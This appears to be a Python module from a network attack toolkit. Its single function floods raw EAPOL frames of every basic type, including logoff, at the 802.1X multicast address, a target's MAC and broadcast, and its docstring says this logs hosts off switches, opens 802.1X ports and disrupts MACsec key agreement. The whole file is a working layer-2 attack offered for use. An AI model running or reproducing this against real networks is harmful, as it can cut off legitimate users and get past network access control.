# SPDX-License-Identifier: Apache-2.0
"""EAPOL logs somebody off at the switch, or a port on (802.1X), and MKA breaks MACsec keys."""
from kit import *

FAMILIES = (4,)


def attack(pot, out):
    for to in (bytes.fromhex("0180c2000003"), out.mac, BROADCAST):
        for kind in range(6):
            pot.send(*[(to + pot.mac + b"\x88\x8e\2" + bytes([kind]) + b"\0\0").ljust(60, b"\0")] * 5)
